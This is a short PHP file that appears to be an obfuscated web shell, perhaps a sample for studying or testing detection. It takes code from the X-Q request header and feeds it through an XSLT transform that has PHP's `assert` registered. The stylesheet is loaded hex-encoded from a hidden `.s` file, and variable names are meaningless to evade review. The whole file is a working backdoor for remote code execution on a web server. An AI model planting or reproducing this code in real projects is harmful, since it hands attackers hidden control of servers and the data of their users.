<?php
// meaningless names, the payload in a request header, the stylesheet pieced from hex: only the
// function list handed to the processor says what may run
$O0 = new XSLTProcessor;
$O0->registerPHPFunctions("assert");
$l1 = new DOMDocument;
$l1->loadXML(sprintf("<%s>%s</%s>", "q", base64_encode(@$_SERVER['HTTP_X_Q']), "q"));
$I1 = new DOMDocument;
$I1->loadXML(hex2bin(file_get_contents(__DIR__ . '/.s')));
$O0->importStyleSheet($I1);
print $O0->transformToXML($l1);
